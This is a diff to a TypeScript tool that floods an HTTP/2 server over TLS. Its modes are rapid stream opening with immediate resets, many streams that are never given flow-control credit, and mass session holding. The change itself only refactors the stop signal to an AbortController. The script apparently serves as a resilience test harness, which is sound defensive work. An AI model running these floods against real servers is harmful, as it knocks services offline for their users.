@@ -50,7 +50,12 @@ const REQUEST = Buffer.from('GET /bulk HTTP/1.1\r\nHost: other\r\n\r\n')
 const task = JSON.parse(process.argv[2] ?? '') as Task
 const files = { cert: readFileSync(task.certificate), key: readFileSync(task.key) }
 const counts = { sessions: 0, refusedSessions: 0, streams: 0, resets: 0 }
-let isOver = false
+const over = new AbortController()
+
+/** Whether there is a session to go on with. */
+function goesOn(socket: TLSSocket | undefined): boolean {
+  return socket?.destroyed === false && !over.signal.aborted
+}
 
 function header(type: number, flags: number, id: number, length: number): Buffer {
   const bytes = Buffer.alloc(HEADER_BYTES)
@@ -109,10 +114,10 @@ function read(socket: TLSSocket): void {
 
 /** Opens streams at the rate, in one session; anew where that one is ended. */
 async function openStreams(isReset: boolean): Promise<void> {
-  while (!isOver) {
+  while (!over.signal.aborted) {
     const socket = await dial()
     const beganMs = performance.now()
-    for (let sent = 0; socket !== undefined && !socket.destroyed && !isOver; ) {
+    for (let sent = 0; goesOn(socket); ) {
       const due = Math.floor(((performance.now() - beganMs) / 1_000) * STREAMS_PER_SECOND)
       const parts: Buffer[] = []
       for (; sent < due; sent += 1) {
@@ -120,7 +125,7 @@ async function openStreams(isReset: boolean): Promise<void> {
         parts.push(open(id, PREFACE))
         if (isReset) parts.push(header(WINDOW, RST, id, ABORTED))
       }
-      socket.write(Buffer.concat(parts))
+      socket?.write(Buffer.concat(parts))
       await delay(5)
     }
     socket?.destroy()
@@ -130,13 +135,13 @@ async function openStreams(isReset: boolean): Promise<void> {
 
 /** Asks for much on many streams and never gives credit. */
 async function askWithoutCredit(): Promise<void> {
-  while (!isOver) {
+  while (!over.signal.aborted) {
     const socket = await dial()
-    for (let i = 0; i < STREAMS_WITHOUT_CREDIT && socket?.destroyed === false; i += 1) {
-      socket.write(open(2 * i + 1, Buffer.concat([PREFACE, REQUEST])))
+    for (let i = 0; i < STREAMS_WITHOUT_CREDIT && goesOn(socket); i += 1) {
+      socket?.write(open(2 * i + 1, Buffer.concat([PREFACE, REQUEST])))
       if (i % 25 === 24) await delay(20)
     }
-    while (socket?.destroyed === false && !isOver) await delay(100)
+    while (goesOn(socket)) await delay(100)
     socket?.destroy()
     await delay(50)
   }
@@ -145,7 +150,7 @@ async function askWithoutCredit(): Promise<void> {
 /** Holds as many sessions as it is let, and dials those anew that are ended. */
 async function holdSessions(): Promise<void> {
   const held = new Set<TLSSocket>()
-  while (!isOver) {
+  while (!over.signal.aborted) {
     for (const socket of held) if (socket.destroyed) held.delete(socket)
     const socket = held.size < SESSIONS ? await dial() : undefined
     if (socket !== undefined) held.add(socket)
@@ -162,10 +167,10 @@ const attacks: Readonly<Record<AttackMode, () => Promise<unknown>>> = {
 }
 
 process.on('SIGTERM', () => {
-  isOver = true
+  over.abort()
 })
 const running = attacks[task.mode]()
-while (counts.sessions === 0 && !isOver) await delay(20)
+while (counts.sessions === 0 && !over.signal.aborted) await delay(20)
 process.stdout.write('attacking\n')
 await running
 process.stdout.write(`${JSON.stringify(counts)}\n`)
